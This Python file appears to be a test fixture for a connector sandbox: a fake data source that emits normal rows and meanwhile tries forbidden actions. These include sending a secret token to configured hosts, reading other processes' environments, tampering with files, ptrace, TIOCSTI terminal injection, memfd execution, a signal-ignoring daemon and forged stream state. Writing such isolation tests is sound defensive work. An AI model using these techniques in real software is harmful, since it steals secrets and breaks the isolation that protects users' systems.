"""A source that gives its rows like any other, and meanwhile tries whatever it should not. For tests alone.

Each try is a row of the stream ``acts``: what, and what became of it (``done`` or an error's name). Config: ``token`` is its
secret; ``places`` are hosts and ports that it would send it to; ``files`` and ``folders`` are other people's; ``forges`` makes
it end with the state of a stream that is not its own.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import sys
import time

USERS = {"id": {"type": "integer"}, "name": {"type": "string"}}
ACTS = {"act": {"type": "string"}, "came": {"type": "string"}}
STREAMS = [
    {
        "name": name,
        "json_schema": {"type": "object", "properties": properties},
        "supported_sync_modes": ["full_refresh", "incremental"],
    }
    for name, properties in (("users", USERS), ("acts", ACTS))
]
ROWS = 100
WITHIN_S = 5
LIBC = ctypes.CDLL(None, use_errno=True)


def write(message):
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def record(stream, data):
    write({"type": "RECORD", "record": {"stream": stream, "data": data, "emitted_at": 0}})


def state(stream, value):
    of = {"stream_descriptor": {"name": stream}, "stream_state": value}
    write({"type": "STATE", "state": {"type": "STREAM", "stream": of}})


def attempt(act, do, *given):
    """Try it, and tell what came of it."""
    try:
        came = do(*given)
    except OSError as error:
        name = errno.errorcode.get(error.errno) if isinstance(error.errno, int) else None
        came = name if name and not isinstance(error, socket.gaierror) else type(error).__name__
    record("acts", {"act": act, "came": "done" if came is None else str(came)})


def checked(answer):
    if answer == -1:
        raise OSError(ctypes.get_errno(), "")


# --- out over the network ------------------------------------------------------------------------


def post(host, port, secret):
    with socket.create_connection((host, port), timeout=WITHIN_S) as sock:
        sock.sendall(secret)


def datagram(host, port, secret):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(secret, (host, port))


def whisper(name):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(name)


def raw(secret):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.send(secret)


# --- beyond its walls ----------------------------------------------------------------------------


def spoil(path):
    with open(path, "ab") as file:
        file.write(b"shady")


def plant(folder):
    with open(folder + "/.shady", "wb") as file:
        file.write(b"shady")


def steal(path):
    with open(path, "rb") as file:
        file.read()


def others():
    """Processes that are neither its own nor its children, by what it can see of them."""
    own = {os.getpid()}
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    secrets = 0
    for pid in seen:
        for name in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    secrets += b"OTHER_SECRET" in file.read() or 0
            except OSError:
                pass  # closed to it
    return f"{len(set(seen) - own)} others, {secrets} secrets"


def descriptors():
    """Write into everything that was left open for it, but stdout and stderr."""
    written = 0
    for fd in [0, *range(3, 1024)]:
        try:
            os.write(fd, b"shady")
        except OSError:
            continue
        written += 1
    return f"{written} written"


def unshare():
    checked(LIBC.unshare(0x10000000))  # CLONE_NEWUSER


def trace_init():
    checked(LIBC.ptrace(16, 1, None, None))  # PTRACE_ATTACH


def read_init():
    with open("/proc/1/mem", "rb") as file:
        file.seek(4096)
        file.read(1)


def push_into_terminal():
    checked(LIBC.ioctl(0, 0x5412, ctypes.c_char_p(b"x")))  # TIOCSTI


def own_memory_runs():
    fd = os.memfd_create("shady")
    os.write(fd, b"#!/bin/true\n")
    child = os.fork()
    if child == 0:
        try:
            os.execve(f"/proc/self/fd/{fd}", ["shady"], {})
        except OSError as error:
            os._exit(error.errno)
    if code := os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
        raise OSError(code, "")


# --- and never leave -----------------------------------------------------------------------------


def daemonize():
    """Leave a process of one's own session behind, which ignores every signal and would go on for an hour."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(number, signal.SIG_IGN)
            time.sleep(3600)
        os._exit(0)
    os.wait()


def misbehave(config):
    secret = config["token"].encode()
    for host, port in config["places"]:
        attempt(f"post {host}", post, host, port, secret)
    host, port = config["places"][-1]
    attempt("datagram", datagram, host, port, secret)
    attempt("raw socket", raw, secret)
    attempt("abstract socket", whisper, "\0" + config["abstract"])
    for path in config["files"]:
        attempt(f"read {path}", steal, path)
        attempt(f"write {path}", spoil, path)
    for folder in config["folders"]:
        attempt(f"plant {folder}", plant, folder)
        attempt(f"list {folder}", lambda folder=folder: None if os.listdir(folder) else "empty")
    attempt("others", others)
    attempt("descriptors", descriptors)
    attempt("init's memory", read_init)
    attempt("trace init", trace_init)
    attempt("become root", os.setuid, 0)
    attempt("a namespace", unshare)
    attempt("mount", lambda: checked(LIBC.mount(b"x", b"/tmp", b"tmpfs", 0, None)))
    attempt("type into the terminal", push_into_terminal)
    attempt("run its own memory", own_memory_runs)
    attempt("daemonize", daemonize)


def read(config):
    for number in range(ROWS // 2):
        record("users", {"id": number, "name": f"n{number}"})
    state("users", {"n": ROWS // 2})
    misbehave(config)
    state("acts", {"done": True})
    for number in range(ROWS // 2, ROWS):
        record("users", {"id": number, "name": f"n{number}"})
    state("users", {"n": ROWS})
    if config.get("forges"):
        state("accounts", {"n": 10**9})


verb = sys.argv[1]
if verb == "spec":
    specification = {"type": "object", "additionalProperties": True}
    write({"type": "SPEC", "spec": {"connectionSpecification": specification}})
elif verb == "check":
    write({"type": "CONNECTION_STATUS", "connectionStatus": {"status": "SUCCEEDED"}})
elif verb == "discover":
    write({"type": "CATALOG", "catalog": {"streams": STREAMS}})
else:
    with open(sys.argv[sys.argv.index("--config") + 1], encoding="utf-8") as opened:
        settings = json.load(opened)
    read(settings)
